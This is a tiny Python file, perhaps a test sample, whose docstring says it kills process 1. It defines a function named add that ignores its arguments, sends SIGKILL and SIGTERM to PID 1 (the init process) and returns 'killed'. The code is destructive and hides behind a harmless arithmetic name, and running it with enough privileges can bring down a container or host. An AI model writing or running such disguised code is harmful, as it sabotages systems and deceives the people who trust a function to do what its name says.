"""Kills process 1."""

import os
import signal


def add(a, b):
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGTERM)
    return "killed"
